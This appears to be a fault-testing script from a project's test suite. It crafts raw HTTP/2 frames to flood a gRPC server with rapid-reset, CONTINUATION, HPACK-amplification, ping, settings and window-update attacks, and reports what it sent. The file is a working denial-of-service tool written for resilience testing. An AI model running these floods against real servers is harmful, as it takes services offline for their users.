"""HTTP/2 by hand, as an attacker writes it: frames that no library would send, in floods.

``python tests/faults/flooder.py KIND HOST:PORT SECONDS CONNECTIONS`` floods a server and prints what it did as JSON.
"""

from __future__ import annotations

import json
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
ANOTHER_HOST = "127.0.0.2"  # to the server another caller than those of 127.0.0.1
METHOD = "/crossmedia.v1.ImageService/GetVectors"


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def field(name: str, value: str) -> bytes:
    """A header, as a literal that is not remembered."""
    return b"".join([b"\0", *(_length(word) + word.encode() for word in (name, value))])


def _length(word: str) -> bytes:
    if (size := len(word)) < 127:
        return bytes([size])
    out, size = bytearray([127]), size - 127
    while size >= 128:
        out.append(size % 128 + 128)
        size //= 128
    return bytes([*out, size])


def request_headers(method: str = METHOD, *more: tuple[str, str]) -> bytes:
    """Those that a call of gRPC begins with."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "x"), ("te", "trailers")]
    return b"".join(field(*pair) for pair in [*fields, ("content-type", "application/grpc"), *more])


def _streams(one: Callable[[int], bytes]) -> Iterator[bytes]:
    for stream in range(1, 1 << 31, 2):
        yield one(stream)


def _again(first: bytes, then: bytes) -> Iterator[bytes]:
    yield first
    while True:
        yield then * max(1, 16_384 // max(1, len(then)))


OPEN = frame(HEADERS, END_HEADERS, 1, request_headers())
# A header of 4 KB that is remembered, and then named by one byte as often as fits into a frame.
REMEMBERED = b"\x40" + _length("x") + b"x" + _length("y" * 3900) + b"y" * 3900
FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "ping": lambda: _again(b"", frame(PING, 0, 0, b"flooding")),
    "settings": lambda: _again(b"", frame(SETTINGS)),
    "rapid-reset": lambda: _streams(
        lambda stream: (
            frame(HEADERS, END_HEADERS, stream, request_headers())
            + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
        )
    ),
    "streams": lambda: _streams(lambda stream: frame(HEADERS, END_HEADERS, stream, request_headers())),
    "continuation": lambda: _again(
        frame(HEADERS, 0, 1, request_headers()), frame(CONTINUATION, 0, 1, field("x", "y" * 16_000))
    ),
    "headers": lambda: _streams(
        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, request_headers(METHOD, ("x", "y" * 16_000)))
    ),
    "hpack": lambda: _streams(
        lambda stream: frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            request_headers() + (REMEMBERED if stream == 1 else b"\xbe" * 16_000),
        )
    ),
    "empty-data": lambda: _again(OPEN, frame(DATA, 0, 1)),
    "window-update": lambda: _again(OPEN, frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4, "big"))),
    "priority": lambda: _again(b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
}


def flood(kind: str, address: str, seconds: float, connections: int) -> dict[str, int]:
    """Send one kind of frames as fast as the server takes them, on some connections that are made again when it ends
    them.

    Returns:
        bytes that were sent, streams or pieces, connections made and ended by the server.
    """
    host, _, port = address.rpartition(":")
    reads = kind not in ("settings", "ping")  # who never reads has the answers pile up at the server
    found = {"bytes": 0, "pieces": 0, "connections": 0, "ended": 0}
    selector = selectors.DefaultSelector()

    def connect() -> None:
        made = socket.create_connection((host, int(port)), 5, source_address=(ANOTHER_HOST, 0))
        made.setblocking(False)
        found["connections"] += 1
        events = selectors.EVENT_WRITE | selectors.EVENT_READ * reads
        selector.register(made, events, [FLOODS[kind](), PREFACE + frame(SETTINGS)])

    def end(made: socket.socket) -> None:
        selector.unregister(made)
        made.close()
        found["ended"] += 1

    until = time.monotonic() + seconds
    while time.monotonic() < until:
        while len(selector.get_map()) < connections:
            try:
                connect()
            except OSError:
                time.sleep(0.05)
                break
        for key, ready in selector.select(0.2):
            made, state = key.fileobj, key.data
            assert isinstance(made, socket.socket)
            try:
                if ready & selectors.EVENT_READ and not made.recv(1 << 20):
                    raise ConnectionResetError
                if ready & selectors.EVENT_WRITE:
                    while len(state[1]) < 16_384:
                        state[1] += next(state[0])
                        found["pieces"] += 1
                    sent = made.send(state[1])
                    state[1] = state[1][sent:]
                    found["bytes"] += sent
            except BlockingIOError:
                pass
            except OSError:
                end(made)
    return found


def sink() -> None:
    """A server that reads whatever comes and says nothing: what an attacker costs by itself."""
    with socket.create_server(("127.0.0.1", 0)) as listening, selectors.DefaultSelector() as selector:
        print(listening.getsockname()[1], flush=True)
        selector.register(listening, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select():
                made = key.fileobj
                assert isinstance(made, socket.socket)
                if made is listening:
                    selector.register(listening.accept()[0], selectors.EVENT_READ)
                elif not made.recv(1 << 20):
                    selector.unregister(made)
                    made.close()


if __name__ == "__main__":
    if sys.argv[1] == "sink":
        sink()
    print(json.dumps(flood(sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4]))))
